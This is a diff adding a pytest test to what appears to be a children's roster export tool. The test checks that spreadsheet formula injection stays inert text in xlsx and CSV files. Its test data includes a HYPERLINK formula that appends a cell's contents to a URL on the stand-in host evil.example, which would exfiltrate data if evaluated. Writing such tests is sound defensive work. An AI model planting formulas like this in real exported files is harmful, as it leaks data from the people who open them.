@@ -254,3 +254,23 @@ def test_list_of_records_all_errors_listed() -> None:
     assert "第2条：姓名：不能为空" in text and "第2条：学籍号" in text and "第3条：foo：不是已知字段" in text
     with pytest.raises(InputError, match="没有儿童记录"):
         records_from_data([], "空.json")
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+def test_formula_injection_stays_text(tmp_path: Path, kind: str) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    rec = synth_children(1, seed=8)[0].model_copy(update={"notes": evil, "income_source": "@SUM(1+1)",
+                                                          "residence": "+86 村"})
+    path = tmp_path / f"r.{kind}"
+    path.write_bytes(roster_xlsx_bytes([rec]) if kind == "xlsx" else roster_csv_bytes([rec]))
+    if kind == "xlsx":
+        ws = openpyxl.load_workbook(path)["花名册"]
+        cell = ws.cell(row=2, column=HEADERS.index("备注") + 1)
+        assert cell.data_type == "s" and cell.value == evil
+    else:
+        raw = path.read_bytes().decode("utf-8-sig")
+        assert "'=HYPERLINK" in raw and "'@SUM" in raw and "'+86" in raw
+    roster = read_roster(path)
+    assert roster.errors == []
+    got = roster.records[0][1]
+    assert (got.notes, got.income_source, got.residence) == (evil, "@SUM(1+1)", "+86 村")
